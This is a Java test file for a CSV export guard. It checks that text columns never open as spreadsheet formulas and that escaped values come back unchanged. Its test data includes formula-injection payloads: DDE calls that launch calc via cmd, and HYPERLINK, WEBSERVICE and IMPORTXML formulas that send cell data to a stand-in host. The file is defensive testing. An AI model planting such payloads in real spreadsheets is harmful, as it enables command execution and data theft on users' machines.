package org.cluelake.export;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SpreadsheetCsvTest {

  private static final List<String> STARTS =
      List.of(
          "=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", " =",
          "\u00A0+", "\u3000@", "\uFEFF=", "\u200B-", "\u0000=", "'", "'=", "''+", "\r\n=", "\t@",
          "\u202E=", "\"=", ",=");

  private static final List<String> BODIES =
      List.of(
          "cmd|' /C calc'!A0",
          "HYPERLINK(\"http://bad.invalid/?\"&A1,\"open\")",
          "1+1",
          "SUM(A1:A9)",
          "WEBSERVICE(\"http://bad.invalid\")",
          "IMPORTXML(\"//bad.invalid\")",
          "DDE(\"cmd\";\"/C calc\")",
          "A1",
          "-1",
          "\"\",\"=1",
          "x\r\n=2+2",
          "x\n\"=3",
          "",
          "\u4F60\u597D",
          "MSEXCEL|'\\..\\calc.exe'!''",
          "1,=1",
          "1;=1",
          "'",
          "''",
          "\"");

  @TempDir Path folder;

  /** What would be injected, in every start and body: more than five hundred. */
  private static List<String> payloads() {
    List<String> payloads = new ArrayList<>();
    Stream.concat(Stream.of("", "plain"), STARTS.stream())
        .forEach(s -> BODIES.forEach(b -> payloads.add(s + b)));
    assertThat(payloads).hasSizeGreaterThan(500);
    return payloads;
  }

  @Test
  void noTextColumnOfAnyFileCarriesAFormulaAndEveryValueComesBack() throws IOException {
    List<String> payloads = payloads();
    for (HandOverFile written : everyFile()) {
      List<SpreadsheetCsv.Column> columns = written.csvColumns();
      assertThat(columns).filteredOn(SpreadsheetCsv.Column::isText).hasSizeGreaterThan(6);
      List<List<String>> rows = new ArrayList<>();
      for (String payload : payloads) {
        rows.add(columns.stream().map(c -> c.isText() ? payload : "-5.00").toList());
      }
      Path file = folder.resolve(written.name() + ".csv");
      SpreadsheetCsv.write(Files.newBufferedWriter(file), columns, rows);
      List<CsvRecord> read = read(file);
      assertThat(read).hasSize(payloads.size() + 1);
      for (int row = 0; row < payloads.size(); row++) {
        for (int column = 0; column < columns.size(); column++) {
          String cell = read.get(row + 1).getField(column);
          if (columns.get(column).isText()) {
            assertThat(isFormula(cell)).as("row %d", row).isFalse();
            assertThat(FormulaGuard.text(cell)).isEqualTo(payloads.get(row));
          } else {
            assertThat(cell).isEqualTo("-5.00");
          }
        }
      }
    }
  }

  /** Every file of every kind of recipient. */
  private static List<HandOverFile> everyFile() {
    List<HandOverFile> files = new ArrayList<>();
    EventSource.ALL.forEach(s -> files.add(HandOverFile.of(s)));
    StandingSource.ALL.forEach(s -> files.add(HandOverFile.of(s)));
    StandingSource.ALL.forEach(s -> files.add(HandOverFile.of(s).difference()));
    return files;
  }

  /** As a spreadsheet judges, blanks in front passed over. */
  private static boolean isFormula(String cell) {
    String shown = cell.strip();
    return !shown.isEmpty() && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".indexOf(shown.charAt(0)) >= 0
        || cell.startsWith("\t")
        || cell.startsWith("\r")
        || cell.startsWith("\n");
  }

  @Test
  void theBytesAreThoseASpreadsheetOpensRight() throws IOException {
    Path file = folder.resolve("one.csv");
    SpreadsheetCsv.write(
        Files.newBufferedWriter(file),
        List.of(new SpreadsheetCsv.Column("text", true), new SpreadsheetCsv.Column("n", false)),
        List.of(Collections.unmodifiableList(java.util.Arrays.asList("say \"hi\"", null))));
    assertThat(Files.readString(file, StandardCharsets.UTF_8))
        .isEqualTo("\uFEFF\"text\",\"n\"\r\n\"say \"\"hi\"\"\",\"\"\r\n");
  }

  @Property(tries = 500)
  void theGuardIsUndoneExactly(@ForAll String text) {
    assertThat(FormulaGuard.text(FormulaGuard.cell(text))).isEqualTo(text);
    assertThat(isFormula(FormulaGuard.cell(text))).isFalse();
  }

  private static List<CsvRecord> read(Path file) throws IOException {
    try (CsvReader<CsvRecord> csv =
        CsvReader.builder().detectBomHeader(true).skipEmptyLines(false).ofCsvRecord(file)) {
      return csv.stream().toList();
    }
  }
}
